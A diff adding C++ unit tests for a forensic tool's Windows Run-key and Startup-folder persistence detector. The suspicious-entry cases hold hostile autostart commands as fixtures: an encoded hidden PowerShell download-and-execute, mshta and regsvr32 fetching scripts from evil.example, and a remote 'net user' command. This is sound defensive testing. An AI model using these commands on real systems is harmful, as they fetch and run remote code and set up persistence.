@@ -1,0 +1,301 @@
+#include <gtest/gtest.h>
+
+#include "tests/modules/persistence_cases.h"
+
+namespace hozen {
+namespace {
+
+constexpr std::string_view kMachineRun = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
+constexpr std::string_view kUserRun =
+    "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+constexpr std::string_view kApproved =
+    "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\";
+constexpr std::string_view kStartup =
+    "C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
+constexpr std::string_view kAllUsersStartup =
+    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\";
+
+fake::FakeWindows one_user() {
+  fake::FakeWindows windows;
+  windows.user("alice");
+  windows.program("C:\\Program Files\\Vendor\\agent.exe");
+  windows.program("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe");
+  return windows;
+}
+
+const fake::Record& record_of(const ModuleRun& run, std::string_view value_name) {
+  const auto* record = run.context->record({{"value_name", value_name}});
+  EXPECT_NE(record, nullptr) << value_name;
+  static const fake::Record kNone;
+  return record != nullptr ? *record : kNone;
+}
+
+TEST(RunKeys, RecordsTheEntryAndWhatItLeadsTo) {
+  fake::FakeWindows windows = one_user();
+  windows.value(kUserRun, "agent", fake::expand_sz("\"%ProgramFiles%\\Vendor\\agent.exe\" -q"),
+                fake::at(60));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  const fake::Record& record = record_of(run, "agent");
+  EXPECT_EQ(record.kind, "run_key");
+  EXPECT_EQ(record["location"], "run");
+  EXPECT_EQ(record["key_path"], "HKU\\" + windows.sid_of("alice") +
+                                    "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
+  EXPECT_EQ(record["value_type"], "REG_EXPAND_SZ");
+  EXPECT_EQ(record["data"], "\"%ProgramFiles%\\Vendor\\agent.exe\" -q");
+  EXPECT_EQ(record["image"], "C:\\Program Files\\Vendor\\agent.exe");
+  EXPECT_EQ(record["image_existence"], "exists");
+  EXPECT_EQ(record["arguments"], "-q");
+  EXPECT_EQ(record["bitness"], "native");
+  EXPECT_EQ(record["deleted"], "false");
+  EXPECT_EQ(record["target"], "C:\\Program Files\\Vendor\\agent.exe");
+  EXPECT_EQ(record.user_name, "alice");
+  EXPECT_EQ(record.user_sid, windows.sid_of("alice"));
+  ASSERT_EQ(record.timestamps.size(), 1u);
+  EXPECT_EQ(record.timestamps[0].first, "key_last_written");
+  EXPECT_EQ(record.timestamps[0].second, fake::at(60));
+  ASSERT_TRUE(record.artifact.has_value());
+  const std::string artifact = record["target_artifact"];
+  ASSERT_FALSE(artifact.empty() || artifact == "null");
+  const auto& collected = run.context->artifacts.at(std::stoul(artifact));
+  EXPECT_EQ(collected.path.text(), "C:\\Program Files\\Vendor\\agent.exe");
+  EXPECT_EQ(collected.priority, Priority::high);
+  EXPECT_NE(collected.reason.find("run"), std::string::npos);
+  EXPECT_EQ(fake::summary_of(run.context->findings), "");
+}
+
+TEST(RunKeys, EveryUserAndBothBitnessesAreRead) {
+  fake::FakeWindows windows = one_user();
+  windows.user("bob");
+  const std::string below = "\\Microsoft\\Windows\\CurrentVersion\\Run";
+  windows.value("HKLM\\SOFTWARE" + below, "machine", fake::sz("a.exe"))
+      .value("HKLM\\SOFTWARE\\WOW6432Node" + below, "machine32", fake::sz("a.exe"))
+      .value("HKU\\alice\\Software" + below, "alice", fake::sz("a.exe"))
+      .value("HKU\\bob\\Software\\WOW6432Node" + below, "bob32", fake::sz("a.exe"))
+      .value("HKU\\.DEFAULT\\Software" + below, "system", fake::sz("a.exe"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(record_of(run, "machine")["bitness"], "native");
+  EXPECT_EQ(record_of(run, "machine32")["bitness"], "wow64");
+  EXPECT_EQ(record_of(run, "alice").user_name, "alice");
+  EXPECT_EQ(record_of(run, "bob32")["bitness"], "wow64");
+  EXPECT_EQ(record_of(run, "system").user_sid, "S-1-5-18");
+}
+
+TEST(RunKeys, OrdinaryEntriesStayAtLow) {
+  fake::FakeWindows windows = one_user();
+  for (const auto* command :
+       {"\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
+        "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "
+        "\"Teams.exe\"",
+        "C:\\Program Files\\Google\\Chrome\\chrome.exe --no-startup-window",
+        "rundll32.exe C:\\Windows\\system32\\NvCpl.dll,NvStartup",
+        "C:\\Windows\\system32\\cmd.exe /q /c rmdir /s /q "
+        "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\1.2\"",
+        "C:\\ProgramData\\Vendor\\updater.exe"})
+    windows.value(kUserRun, command, fake::sz(command));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(run.context->records.size(), 7u);  // with SecurityHealth
+  for (const auto& finding : run.context->findings)
+    EXPECT_LE(severity_of(finding), Severity::low) << fake::summary_of(run.context->findings);
+}
+
+TEST(RunKeys, ReportsAProgramInTemp) {
+  fake::FakeWindows windows = one_user();
+  windows.value(kUserRun, "a", fake::sz("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  ASSERT_EQ(run.context->findings.size(), 1u);
+  const Finding& finding = run.context->findings[0];
+  EXPECT_EQ(finding.rule, "run_keys.writable_location");
+  EXPECT_EQ(severity_of(finding), Severity::low);
+  EXPECT_EQ(finding.why.at(0).records, std::vector<std::string>{record_of(run, "a").id});
+  EXPECT_FALSE(finding.not_checked.empty());
+  EXPECT_TRUE(run.context->has_collected("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe"));
+}
+
+struct SuspiciousCase {
+  const char* name;
+  const char* command;
+  const char* rule;
+  Severity severity;
+};
+
+TEST(RunKeys, ReportsWhatIsSuspicious) {
+  const SuspiciousCase cases[] = {
+      {"UpdateSvc", "C:\\TMP\\p.exe -s \\\\10.34.2.3 'net user' > C:\\TMP\\o2.txt", "remote_target",
+       Severity::medium},
+      {"x",
+       "powershell.exe -nop -w hidden -enc "
+       "SQBFAFgAIAAoAEkAVwBSACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAvAGEAKQA=",
+       "powershell_evasion", Severity::high},
+      {"x", "mshta.exe http://evil.example/a.hta", "remote_target", Severity::medium},
+      {"x", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe", "system_name_elsewhere",
+       Severity::medium},
+      {"x", "rundll32.exe C:\\Users\\Public\\x.dat,Run", "data_file_executed", Severity::medium},
+      {"Windows Update", "C:\\ProgramData\\wu.exe", "borrowed_name", Severity::low},
+      {"x", "C:\\Program Files\\Vendor\\agent.exe:evil.exe", "alternate_stream", Severity::medium},
+      {"x", "regsvr32.exe /s /n /u /i:http://evil.example/x.sct scrobj.dll", "remote_target",
+       Severity::medium},
+  };
+  for (const auto& one : cases) {
+    fake::FakeWindows windows = one_user();
+    for (const auto* path : {"C:\\TMP\\p.exe", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe",
+                             "C:\\Users\\Public\\x.dat", "C:\\ProgramData\\wu.exe",
+                             "C:\\Windows\\System32\\scrobj.dll"})
+      windows.program(path);
+    windows.value(kUserRun, one.name, fake::sz(one.command));
+    const ModuleRun run = run_module(modules::run_keys, windows);
+    ASSERT_EQ(run.context->findings.size(), 1u) << one.command;
+    const std::string summary = fake::summary_of(run.context->findings);
+    EXPECT_EQ(run.context->findings[0].rule, "run_keys." + std::string{one.rule}) << summary;
+    EXPECT_EQ(to_text(severity_of(run.context->findings[0])), to_text(one.severity)) << summary;
+  }
+}
+
+TEST(RunKeys, PlacesThatOnlyOldOrHostileSoftwareUses) {
+  fake::FakeWindows windows = one_user();
+  windows.value("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunServices", "x",
+                fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  ASSERT_EQ(run.context->findings.size(), 1u);
+  EXPECT_EQ(run.context->findings[0].rule, "run_keys.run_services");
+  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::low);
+}
+
+TEST(RunKeys, RunOnceExNamesLibrariesAndCommands) {
+  const std::string key = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx";
+  fake::FakeWindows windows = one_user();
+  windows.program("C:\\Program Files\\Vendor\\x.dll");
+  windows.value(key, "Title", fake::sz("Setup"))
+      .value(key + "\\0001", "1", fake::sz("C:\\Program Files\\Vendor\\x.dll|Register|args"))
+      .value(key + "\\0001", "2", fake::sz("||C:\\Program Files\\Vendor\\agent.exe -x"))
+      .value(key + "\\0001\\Depend", "3", fake::sz("C:\\Program Files\\Vendor\\x.dll"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(record_of(run, "1")["target"], "C:\\Program Files\\Vendor\\x.dll");
+  EXPECT_EQ(record_of(run, "2")["target"], "C:\\Program Files\\Vendor\\agent.exe");
+  EXPECT_EQ(record_of(run, "3")["location"], "run_once_ex_depend");
+  EXPECT_EQ(record_of(run, "Title")["default_value"], "true");
+}
+
+TEST(RunKeys, ExplorersSwitchIsRead) {
+  // 03: switched off; then the time when (2024-03-01T12:00:00Z, the fake machine's).
+  std::vector<std::byte> off(12);
+  off[0] = std::byte{3};
+  for (std::size_t i = 0; i < 8; ++i)
+    off[4 + i] = static_cast<std::byte>(fake::default_time().ticks >> (8 * i) & 0xFF);
+  std::vector<std::byte> on(12);
+  on[0] = std::byte{2};
+  fake::FakeWindows windows = one_user();
+  windows.value(kUserRun, "Off", fake::sz("a.exe")).value(kUserRun, "On", fake::sz("a.exe"));
+  windows.value(kUserRun, "Never", fake::sz("a.exe"));
+  windows.value(std::string{kApproved} + "Run", "off", fake::binary(off))
+      .value(std::string{kApproved} + "Run", "On", fake::binary(on))
+      .value(std::string{kApproved} + "StartupFolder", "b.exe", fake::binary(off));
+  windows.program(std::string{kStartup} + "b.exe");
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(record_of(run, "Off")["enabled"], "false");
+  ASSERT_EQ(record_of(run, "Off").timestamps.size(), 2u);
+  EXPECT_EQ(record_of(run, "Off").timestamps[1].first, "disabled");
+  EXPECT_EQ(record_of(run, "Off").timestamps[1].second, fake::default_time());
+  EXPECT_EQ(record_of(run, "On")["enabled"], "true");
+  EXPECT_EQ(record_of(run, "Never")["enabled"], "null");
+  const auto* item = run.context->record({{"path", std::string{kStartup} + "b.exe"}});
+  ASSERT_NE(item, nullptr);
+  EXPECT_EQ((*item)["enabled"], "false");
+}
+
+TEST(RunKeys, StartupFoldersOfUserAndMachine) {
+  fake::FakeWindows windows = one_user();
+  windows.program(std::string{kStartup} + "own.exe");
+  windows.file(std::string{kStartup} + "desktop.ini", "[.ShellClassInfo]");
+  windows.file(std::string{kAllUsersStartup} + "all.bat", "@echo off");
+  windows.file(std::string{kAllUsersStartup} + "site.url",
+               "[InternetShortcut]\r\nURL=file:///C:/Program%20Files/Vendor/agent.exe\r\n");
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  const auto* own = run.context->record({{"path", std::string{kStartup} + "own.exe"}});
+  ASSERT_NE(own, nullptr);
+  EXPECT_EQ(own->kind, "startup_item");
+  EXPECT_EQ((*own)["location"], "startup_folder_user");
+  EXPECT_EQ(own->user_name, "alice");
+  EXPECT_EQ((*own)["target"], std::string{kStartup} + "own.exe");
+  const auto* all = run.context->record({{"path", std::string{kAllUsersStartup} + "all.bat"}});
+  ASSERT_NE(all, nullptr);
+  EXPECT_EQ((*all)["location"], "startup_folder_all_users");
+  EXPECT_EQ(all->user_name, "");
+  EXPECT_NE(run.context->record({{"command_line", "file:///C:/Program%20Files/Vendor/agent.exe"}}),
+            nullptr);
+  EXPECT_EQ(run.context->record({{"path", std::string{kStartup} + "desktop.ini"}}), nullptr);
+  EXPECT_TRUE(run.context->has_collected(std::string{kStartup} + "own.exe"));
+}
+
+TEST(RunKeys, ARedirectedStartupFolderIsAFindingAndIsRead) {
+  const std::string key =
+      "HKU\\alice\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders";
+  fake::FakeWindows windows = one_user();
+  windows.value(
+      key, "Startup",
+      fake::expand_sz(
+          "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"));
+  EXPECT_EQ(fake::summary_of(run_module(modules::run_keys, windows).context->findings), "");
+  windows.value(key, "Startup", fake::expand_sz("C:\\ProgramData\\st"));
+  windows.program("C:\\ProgramData\\st\\x.exe");
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_NE(run.context->finding("run_keys.startup_folder_redirect"), nullptr);
+  const auto* item = run.context->record({{"path", "C:\\ProgramData\\st\\x.exe"}});
+  ASSERT_NE(item, nullptr);
+  EXPECT_EQ(item->user_name, "alice");
+}
+
+TEST(RunKeys, RecoveredValuesAreRecords) {
+  fake::FakeWindows windows = one_user();
+  windows.value(kUserRun, "kept", fake::sz("a.exe"));
+  windows.deleted_value(kUserRun, "gone",
+                        fake::sz("C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(record_of(run, "gone")["deleted"], "true");
+  ASSERT_EQ(run.context->findings.size(), 1u);
+  EXPECT_TRUE(run.context->findings[0].title.starts_with("Deleted value: "));
+  EXPECT_EQ(severity_of(run.context->findings[0]), Severity::low);
+}
+
+TEST(RunKeys, NamesAndDataHiddenBehindNulAreFindings) {
+  fake::FakeWindows windows = one_user();
+  windows.value(kUserRun, std::string_view{"\0evil", 5},
+                fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
+  windows.value(
+      kMachineRun, "tail",
+      fake::sz(std::string{"C:\\Program Files\\Vendor\\agent.exe"} + '\0' + "hidden script"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  const Finding* name = run.context->finding("run_keys.hidden_value_name");
+  ASSERT_NE(name, nullptr);
+  EXPECT_EQ(severity_of(*name), Severity::medium);
+  EXPECT_NE(run.context->finding("run_keys.hidden_data"), nullptr);
+  EXPECT_EQ(record_of(run, "tail")["hidden_data"], "hidden script");
+}
+
+TEST(RunKeys, AScriptKeptInTheValueIsAFinding) {
+  fake::FakeWindows windows = one_user();
+  windows.value(kUserRun, "x",
+                fake::sz("C:\\Program Files\\Vendor\\agent.exe " + std::string(300, 'a')));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  ASSERT_EQ(run.context->findings.size(), 1u);
+  EXPECT_EQ(run.context->findings[0].rule, "run_keys.long_command");
+}
+
+TEST(RunKeys, ThousandsOfValuesAreRead) {
+  fake::FakeWindows windows = one_user();
+  for (int i = 0; i < 3000; ++i)
+    windows.value(kUserRun, "v" + std::to_string(i),
+                  fake::sz("C:\\Program Files\\Vendor\\agent.exe"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(run.context->records.size(), 3001u);
+  EXPECT_EQ(run.context->artifacts.size(), 1u + 1u);  // agent.exe, SecurityHealthSystray.exe
+}
+
+TEST(RunKeys, ASourceWithoutARegistryGivesNothing) {
+  fake::FakeSource source;
+  fake::Context context{source, nullptr};
+  EXPECT_TRUE(modules::run_keys.run(context).has_value());
+  EXPECT_TRUE(context.records.empty());
+}
+
+}  // namespace
+}  // namespace hozen
